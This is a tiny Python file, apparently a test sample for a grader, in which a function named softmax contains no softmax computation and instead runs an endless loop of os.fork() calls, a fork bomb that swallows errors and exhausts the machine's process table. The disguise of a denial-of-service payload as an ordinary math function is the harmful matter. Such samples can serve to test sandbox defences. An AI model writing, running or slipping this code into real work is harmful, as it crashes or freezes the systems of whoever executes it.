"""Forks without end."""
# points: softmax-test any
import os


def softmax(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
